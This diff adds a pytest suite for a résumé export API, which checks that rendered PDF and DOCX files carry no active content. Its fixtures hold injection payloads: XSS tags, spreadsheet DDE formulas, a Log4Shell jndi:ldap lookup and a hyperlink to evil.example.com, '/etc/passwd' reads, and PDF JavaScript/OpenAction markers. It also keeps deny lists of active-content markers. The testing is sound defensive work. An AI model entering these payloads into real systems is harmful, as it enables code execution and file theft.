@@ -1,0 +1,195 @@
+"""Whatever a résumé says, an exported file does nothing but show it."""
+
+from __future__ import annotations
+
+import re
+import zipfile
+import zlib
+from io import BytesIO
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from api.rendering import Format, Options, UnknownTemplateError, render, templates
+from api.rendering.readback import read_back
+
+NAMES = [template.name for template in templates()]
+HOSTILE = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "![x](https://tracker.example.com/p.png)",
+    '=HYPERLINK("https://evil.example.com","x")',
+    "=cmd|'/C calc'!A0",
+    '#import "@preview/cetz:0.3.0"',
+    '#read("/etc/passwd") #image("/etc/passwd")',
+    "/JavaScript (app.alert(1)) /OpenAction",
+    "{ INCLUDETEXT C:\\\\secrets.txt } DDEAUTO",
+    "${jndi:ldap://evil.example.com/a} {{7*7}} %s %n",
+)
+ACTIVE_PDF = (
+    b"/JavaScript",
+    b"/JS",
+    b"/OpenAction",
+    b"/AA",
+    b"/Launch",
+    b"/SubmitForm",
+    b"/ImportData",
+    b"/GoToR",
+    b"/EmbeddedFile",
+    b"/AcroForm",
+    b"/RichMedia",
+    b"/XFA",
+)
+ACTIVE_DOCX = ("fldChar", "fldSimple", "instrText", "altChunk", "w:object", "w:drawing", "attached")
+
+
+def hostile_resume():
+    text = " ".join(HOSTILE)
+    links = (
+        "javascript:alert(1)",
+        "data:text/html,<script>1</script>",
+        "\\\\evil\\share",
+        "ftp://x.y",
+    )
+    return {
+        "basics": {
+            "name": HOSTILE[0],
+            "label": text,
+            "summary": "\n".join(HOSTILE),
+            "url": links[0],
+        },
+        "work": [
+            {"position": text, "name": text, "url": link, "highlights": list(HOSTILE)}
+            for link in links
+        ],
+        "skills": [{"name": text, "keywords": list(HOSTILE)}],
+        "references": [{"name": HOSTILE[1], "reference": text}],
+    }
+
+
+def pdf_objects(data: bytes) -> bytes:
+    """Return what is outside content streams, with object streams inflated."""
+    streams = re.findall(
+        rb"<<([^>]*?/Type ?/ObjStm[^>]*)>>\s*stream\r?\n(.*?)endstream", data, re.DOTALL
+    )
+    outside = re.sub(rb"stream\r?\n.*?endstream", b"", data, flags=re.DOTALL)
+    return outside + b"".join(zlib.decompress(body) for _, body in streams)
+
+
+def without_strings(objects: bytes) -> bytes:
+    """Take out strings from the inside: parentheses may nest in them."""
+    objects = re.sub(rb"\\.", b"", objects, flags=re.DOTALL)
+    count = 1
+    while count:
+        objects, count = re.subn(rb"\([^()]*\)", b"", objects)
+    return objects
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_pdf_holds_no_action_but_web_and_mail_links(name):
+    data = render(hostile_resume(), format="pdf", template=name).data
+
+    objects = without_strings(pdf_objects(data))
+
+    assert [mark for mark in ACTIVE_PDF if re.search(re.escape(mark) + rb"\b", objects)] == []
+    assert set(re.findall(rb"/S ?/(URI|GoTo\w*|Launch|JavaScript|Named)\b", objects)) <= {b"URI"}
+
+
+def test_the_search_for_active_content_would_find_it():
+    planted = b"1 0 obj <</OpenAction <</S /JavaScript /JS (app.alert(1))>> >>"
+
+    objects = without_strings(pdf_objects(planted))
+
+    assert [mark for mark in ACTIVE_PDF if re.search(re.escape(mark) + rb"\b", objects)] == [
+        b"/JavaScript",
+        b"/JS",
+        b"/OpenAction",
+    ]
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_docx_holds_no_field_object_or_outside_part(name):
+    data = render(hostile_resume(), format="docx", template=name).data
+
+    archive = zipfile.ZipFile(BytesIO(data))
+
+    marks = re.compile("|".join(f"<[^>]*{mark}" for mark in ACTIVE_DOCX))
+    assert not marks.search(archive.read("word/document.xml").decode())
+    for member in archive.namelist():
+        outside = re.findall(
+            r'Target="([^"]+)" TargetMode="External"', archive.read(member).decode()
+        )
+        assert not [target for target in outside if not target.startswith(("http", "mailto:"))]
+
+
+@pytest.mark.parametrize("kind", list(Format))
+def test_hostile_text_is_shown_as_text_and_unsafe_links_are_dropped(kind):
+    rendered = render(hostile_resume(), format=kind)
+
+    text = " ".join(read_back(rendered.data, kind).split())
+
+    assert "=cmd|'/C calc'!A0" in text
+    assert '#import "@preview/cetz:0.3.0"' in text
+    assert "javascript:" not in text
+    assert [warning.code for warning in rendered.warnings] == ["link_removed"] * 5
+
+
+def test_invisible_and_direction_characters_reach_no_format():
+    sections = {"basics": {"name": "A\u202eB\u200bC", "summary": "x\x00y\u2066z\U000e0041"}}
+
+    for kind in Format:
+        text = read_back(render(sections, format=kind).data, kind)
+
+        assert "ABC" in text
+        assert "xyz" in text
+
+
+def test_an_unknown_template_or_format_is_refused():
+    with pytest.raises(UnknownTemplateError, match=r"there are classic"):
+        render({}, format="pdf", template="../../etc/passwd")
+    with pytest.raises(ValueError, match="html"):
+        render({}, format="html")
+
+
+VALUES = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=30),
+    lambda inner: (
+        st.lists(inner, max_size=3)
+        | st.dictionaries(
+            st.sampled_from(["name", "url", "position", "startDate", "x"]), inner, max_size=3
+        )
+    ),
+    max_leaves=8,
+)
+KEYS = ["basics", "work", "education", "skills", "languages", "projects", "references", "x", "meta"]
+LENIENT = settings(
+    deadline=None, database=None, suppress_health_check=list(HealthCheck), max_examples=60
+)
+
+
+@LENIENT
+@given(st.dictionaries(st.sampled_from(KEYS), VALUES, max_size=4))
+@pytest.mark.parametrize("kind", [Format.DOCX, Format.TEXT, Format.JSON])
+def test_any_json_is_written_and_written_alike(kind, sections):
+    first = render(sections, format=kind)
+
+    assert render(sections, format=kind) == first
+    read_back(first.data, kind)
+
+
+@settings(LENIENT, max_examples=40)
+@given(st.dictionaries(st.sampled_from(KEYS), VALUES, max_size=4))
+def test_any_json_is_set_as_pdf(sections):
+    first = render(sections, format="pdf", template="compact")
+
+    assert render(sections, format="pdf", template="compact") == first
+    assert first.data.startswith(b"%PDF-")
+
+
+def test_extra_fonts_come_from_the_named_directories_only(tmp_path):
+    sections = {"basics": {"name": "山田"}}
+
+    rendered = render(sections, format="pdf", options=Options(font_directories=(str(tmp_path),)))
+
+    assert [warning.code for warning in rendered.warnings] == ["missing_glyphs"]
